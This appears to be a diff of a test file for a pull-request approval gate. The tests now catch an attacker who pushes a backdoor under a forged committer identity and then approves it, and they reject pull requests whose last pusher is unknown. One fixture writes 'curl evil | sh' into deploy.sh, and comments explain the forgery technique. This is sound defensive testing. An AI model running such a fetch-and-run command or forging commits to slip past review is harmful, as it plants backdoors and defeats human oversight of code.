@@ -460,19 +460,39 @@ describe('new attacks on the App’s entries and the checkpoint statuses', () =>
 });
 
 describe('new attacks on approvals', () => {
-  // Found (documented in README's "What it relies on"): GitHub's API does not say who pushed an ordinary commit,
-  // so the gate infers the last pusher from the head's committer, which git lets the pusher write. Mallory pushes
-  // the backdoor onto Alice's pull request as "Alice" (author and committer), then approves it herself.
-  it.fails('SUCCEEDS: pushing onto someone else’s pull request with a forged committer, then approving it', async () => {
+  // Found: GitHub's commits do not say who pushed them, and the gate inferred the last pusher from the head's
+  // committer, which git lets the pusher write. Mallory pushed the backdoor onto Alice's pull request as "Alice"
+  // (author and committer), then approved it herself. The pusher now comes from GitHub's repository activity.
+  it('pushing onto someone else’s pull request with a forged committer, then approving it', async () => {
     const pr = repo.pullRequest({
       number: 40,
       author: 'alice',
       change: (f) => ({ ...f, 'deploy.sh': 'curl evil | sh\n' }),
       // The final head is Mallory's push; git says alice wrote and committed it (the fake's default: the author).
       approvers: ['mallory'],
+      pushedBy: 'mallory',
     });
     const decision = await gate(pr.mergeCommit!);
     expect(decision.approved).toBe(false);
+    expect(decision.verdict!.pullRequests[0]!.approval.ignored).toContainEqual({
+      login: 'mallory',
+      reason: `pushed the final head ${pr.head.slice(0, 7)} (GitHub's repository activity): GitHub does not count an approval by whoever pushed last`,
+    });
+  });
+
+  it('a pull request whose last push GitHub’s activity does not record: who may not approve is unknown, rejected', async () => {
+    const pr = repo.pullRequest({
+      number: 42,
+      author: 'alice',
+      change: (f) => ({ ...f, 'deploy.sh': 'echo ok\n' }),
+      approvers: ['bob'],
+      pushedBy: null,
+    });
+    const decision = await gate(pr.mergeCommit!);
+    expect(decision.approved).toBe(false);
+    expect(decision.reason).toMatch(
+      /who pushed the final head [0-9a-f]{7} of #42, who may not approve it, is unknown/,
+    );
   });
 
   it('a reviewer who approved, was dismissed, and approves again on the final head counts once, as on GitHub', async () => {
